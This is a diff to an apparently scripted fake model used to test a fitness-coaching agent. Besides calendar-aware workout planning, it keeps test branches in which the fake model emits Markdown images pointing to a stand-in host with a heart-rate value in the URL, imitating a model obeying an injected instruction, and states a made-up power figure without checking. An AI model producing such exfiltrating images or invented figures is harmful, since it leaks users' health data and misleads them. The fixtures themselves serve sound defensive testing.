@@ -26,12 +26,32 @@ LEAK = "http://198.51.100.7/leak.png?hrv=55"
 LEAKY_TEXT = (f"Look: ![chart]({LEAK}) and ![ref][r] and ![a [b] c]({LEAK})\n\n[r]: {LEAK}")
 
 
-def plan_week(body: dict[str, Any]) -> Reply:
+def free_days(first: date, calendar: str, count: int = 1) -> list[date]:
+    """The first `count` days from `first` on with nothing planned or proposed in the calendar
+    text (a coach looks at the week before proposing); busy days after those if too few."""
+    busy = {line[:10] for line in calendar.splitlines()
+            if re.match(r"\d{4}-\d{2}-\d{2} \w+ (WORKOUT|PROPOSED)", line)}
+    days = [first + timedelta(days=i) for i in range(14)]
+    return ([d for d in days if d.isoformat() not in busy] + days)[:count]
+
+
+def free_day(first: date, calendar: str) -> date:
+    return free_days(first, calendar)[0]
+
+
+def look_at_the_week(body: dict[str, Any], first: int = 2) -> Reply:
     today = today_from(body)
+    return Reply(tool_calls=[{"name": "planned_workouts", "arguments": {
+        "start": str(today + timedelta(days=first)), "end": str(today + timedelta(days=13))}}])
+
+
+def plan_week(body: dict[str, Any], calendar: str) -> Reply:
+    """Three sessions on the first free days of the coming week."""
+    days = free_days(today_from(body) + timedelta(days=1), calendar, len(WEEK))
     return Reply(content="Here is a plan for your week.", tool_calls=[
         {"name": "propose_workout", "arguments": {
-            "date": (today + timedelta(days=offset)).isoformat(), "sport": sport,
-            "name": name, "description": text}} for sport, name, offset, text in WEEK])
+            "date": day.isoformat(), "sport": sport, "name": name, "description": text}}
+        for day, (sport, name, _, text) in zip(days, WEEK, strict=True)])
 
 
 # question pattern → the tool calls a good coach makes for it
@@ -120,6 +140,9 @@ def weeks_reply(body: dict[str, Any]) -> Reply:
         if weeks else last["content"])
 
 
+WEEK_ASK = r"week|6 hours|three sessions"  # asks for three sessions at once
+
+
 def without_notes(body: dict[str, Any]) -> dict[str, Any]:
     """The request without the system messages after the prompt (the product's notes and the
     agent's hints): the script reads the conversation, and the facts the product ran first are
@@ -129,10 +152,10 @@ def without_notes(body: dict[str, Any]) -> dict[str, Any]:
 
 
 def coach(body: dict[str, Any]) -> Reply:
-    """Plan requests: fitness_trend → propose_workout → answer ("week", "three sessions": three
-    at once). "image": Markdown images (a model obeying an injected instruction). "best
-    power": a figure made up without any tool, even when asked to check it. Anything else: a
-    short answer."""
+    """Plan requests: fitness_trend and planned_workouts → propose_workout on a free day →
+    answer ("week", "three sessions": three at once). "image": Markdown images (a model
+    obeying an injected instruction). "best power": a figure made up without any tool, even
+    when asked to check it. Anything else: a short answer. The product's notes are skipped."""
     body = without_notes(body)
     messages = body["messages"]
     last_user = [m for m in messages if m["role"] == "user"][-1]
@@ -151,13 +174,21 @@ def coach(body: dict[str, Any]) -> Reply:
             return Reply(content=LEAKY_TEXT, tool_calls=[
                 {"name": "list_activities", "arguments": {"start": f"![x]({LEAK})",
                                                           "end": "today"}}])
-        if re.search(r"week|6 hours|three sessions", last["content"], re.I):
-            return plan_week(body)
+        if re.search(WEEK_ASK, last["content"], re.I):
+            return look_at_the_week(body, first=1)
         if re.search(r"plan|propose|workout", last["content"], re.I):
-            return Reply(tool_calls=[{"name": "fitness_trend", "arguments": {"days": 42}}])
+            today = today_from(body)
+            return Reply(tool_calls=[
+                {"name": "fitness_trend", "arguments": {"days": 42}},
+                {"name": "planned_workouts", "arguments": {
+                    "start": str(today + timedelta(days=2)),
+                    "end": str(today + timedelta(days=9))}}])
         return Reply(content="Ask me to plan a workout and I will look at your form first.")
-    if last["role"] == "tool" and last.get("tool_name") == "fitness_trend":
-        day = today_from(body) + timedelta(days=2)
+    if last["role"] == "tool" and last.get("tool_name") == "planned_workouts" and \
+            re.search(WEEK_ASK, last_user["content"], re.I):
+        return plan_week(body, last["content"])
+    if last["role"] == "tool" and last.get("tool_name") == "planned_workouts":
+        day = free_day(today_from(body) + timedelta(days=2), last["content"])
         return Reply(content="Your form allows a threshold session. ", tool_calls=[{
             "name": "propose_workout",
             "arguments": {"date": day.isoformat(), "sport": "Ride", "name": "Threshold 3x8",
@@ -166,7 +197,7 @@ def coach(body: dict[str, Any]) -> Reply:
         return Reply(content=LEAKY_TEXT)
     last_user = max(i for i, m in enumerate(messages) if m["role"] == "user")
     if last["role"] == "tool" and last.get("tool_name") == "propose_workout" and len(
-            [m for m in messages[last_user:] if m["role"] == "tool"]) >= 3:
+            [m for m in messages[last_user:] if m.get("tool_name") == "propose_workout"]) >= 3:
         return Reply(content="Three sessions proposed; confirm the ones you want.")
     return Reply(content="I proposed **Threshold 3x8** for you. Confirm it below to put it on "
                          "your calendar.")
